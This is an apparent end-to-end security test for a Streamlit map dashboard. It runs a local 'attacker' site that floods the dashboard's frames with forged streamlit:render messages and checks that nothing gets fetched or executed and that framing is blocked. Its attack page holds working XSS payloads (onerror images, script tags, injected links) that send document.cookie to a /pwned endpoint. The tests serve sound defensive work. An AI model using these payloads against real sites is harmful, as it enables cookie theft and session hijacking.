"""Another site must not run script in the dashboard: a page on a foreign origin opens the dashboard (or
frames it) and posts hostile `streamlit:render` messages to every frame it can reach, for as long as the
map loads and steps. Whatever the map's renderer, nothing the attacker sent may be fetched or run."""

from __future__ import annotations

import contextlib
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from tests.e2e.browser import MAP_FRAME, alerts, map_frame, wait_for_app, wait_for_town
from ui.server import SECURITY_HEADERS

# The attacker's page. It posts, every few milliseconds, to the opened window and to every frame inside it:
# the render arguments of streamlit-folium, which shows the map (a map script, a feature group script and links
# to load), and of the map component this project had before it (a layer and a Leaflet of its own). Anything
# that succeeds calls back to /pwned with the dashboard's cookies.
ATTACK_PAGE = """<!doctype html>
<html><body>
<button id="open">open</button>
<script>
const app = new URL(location.href).searchParams.get("app");
const home = location.origin;
const steal = "fetch('" + home + "/pwned?cookie=' + encodeURIComponent(document.cookie))";
function hostile() {
  return {
    isStreamlitMessage: true, type: "streamlit:render", dfs: [], disabled: false, theme: null,
    args: {
      layer_url: home + "/evil.json", leaflet: {js: home + "/evil.js", css: home + "/evil.css"},
      day: 17500, lo: 17000, hi: 18000, changes: [], revision: 99, height: 300, tiles: "none",
      script: steal, html: "<img src=x onerror=\\"" + steal + "\\">", id: "evil", zoom: 5,
      fig: "<script>" + steal + "<\\/script>",
      feature_group: steal, layer_control: steal, js_links: [home + "/evil.js"], css_links: [home + "/evil.css"],
      header: "<img src=x onerror=\\"" + steal + "\\">", returned_objects: [], width: 300,
    },
  };
}
window.target = null;
window.posts = 0;
function reach(w, depth) {
  try { w.postMessage(hostile(), "*"); window.posts++; } catch (e) {}
  if (depth > 3) return;
  try { for (let i = 0; i < w.length; i++) reach(w.frames[i], depth + 1); } catch (e) {}
}
document.getElementById("open").onclick = () => {
  window.target = window.open(app, "dashboard");
  setInterval(() => { if (window.target) reach(window.target, 0); }, 5);
};
</script>
</body></html>
"""

FRAMING_PAGE = """<!doctype html>
<html><body><iframe id="dash" src="{app}" width="900" height="600"></iframe></body></html>
"""

EVIL_JS = "fetch('/pwned?from=evil-js'); window.__xss = 1;"


class _Attacker(BaseHTTPRequestHandler):
    requests: list[str]  # set per server

    def do_GET(self):  # noqa: N802 (http.server's name)
        self.requests.append(self.path)
        path = self.path.split("?")[0]
        pages = {"/attack.html": ATTACK_PAGE, "/frame.html": FRAMING_PAGE.format(app=self.server.app_url),
                 "/evil.js": EVIL_JS, "/evil.css": "body{}", "/evil.json": "{}"}
        body = pages.get(path, "").encode()
        self.send_response(200 if path in pages else 204)
        kind = "text/html" if path.endswith(".html") else "application/javascript"
        self.send_header("Content-Type", kind)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@contextlib.contextmanager
def attacker_site(app_url: str):
    """A site on another origin (another port) than the dashboard; yields (its URL, the paths asked of it)."""
    requests: list[str] = []
    handler = type("Handler", (_Attacker,), {"requests": requests})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.app_url = app_url
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", requests
    finally:
        server.shutdown()
        server.server_close()


def _stolen(requests: list[str]) -> list[str]:
    return [r for r in requests if not r.startswith(("/attack.html", "/frame.html", "/favicon"))]


def test_every_response_carries_the_headers_that_cut_a_foreign_page_off(app_url):
    for path in ("/", "/app/static/vendor/leaflet/dist/leaflet.js", "/app/static/folium_control/control_link.js",
                 "/_stcore/health"):
        with urllib.request.urlopen(app_url + path, timeout=10) as response:
            for name, value in SECURITY_HEADERS.items():
                assert response.headers.get(name) == value, (path, name, response.headers.get(name))


def test_a_page_that_opens_the_dashboard_cannot_run_script_in_it(browser, app_url, offline):
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    context.route("**/*", offline.route)
    try:
        with attacker_site(app_url) as (site, requests):
            attacker = context.new_page()
            attacker.goto(f"{site}/attack.html?app={app_url}/%3Fdate%3D2017-11-09")
            with context.expect_page() as opened:
                attacker.click("#open")
            dashboard = opened.value
            hijacked = None
            try:
                wait_for_app(dashboard)
                frame = map_frame(dashboard)
                # The map drew the dashboard's own layer, not the attacker's...
                wait_for_town(frame, "albu-kamal", status="held", force="SYRIAN_GOV")
                # ...and keeps it while the attack goes on through a step of the map (a new render).
                frame.locator("#next").click()
                wait_for_town(frame, "albu-kamal", status="contested")
                dashboard.wait_for_timeout(1500)  # the attack runs on a timer: give it time to land
            except Exception as error:  # a hijacked map never draws: say what the attacker got first
                hijacked = error
            assert _stolen(requests) == [], f"the attacker's files were fetched: {sorted(set(_stolen(requests)))}"
            assert hijacked is None, hijacked
            assert alerts(dashboard) == []
            for each in dashboard.frames:
                assert each.evaluate("() => window.__xss === undefined"), each.url
            # The attacker's handle was cut: the window it opened is closed to it, with no frames to post to.
            assert attacker.evaluate("() => window.target.closed && window.target.length === 0")
    finally:
        context.close()


def test_another_site_cannot_frame_the_dashboard(browser, app_url, offline):
    context = browser.new_context()
    context.route("**/*", offline.route)
    try:
        with attacker_site(app_url) as (site, _):
            page = context.new_page()
            page.goto(f"{site}/frame.html")
            page.wait_for_load_state("load")
            framed = [f for f in page.frames if f is not page.main_frame]
            assert framed, "the test page has no frame"
            # Chromium refuses the document (frame-ancestors): the frame shows its error page, never the app.
            for frame in framed:
                assert not frame.url.startswith(app_url), frame.url
                assert frame.locator("[data-testid='stApp']").count() == 0
    finally:
        context.close()
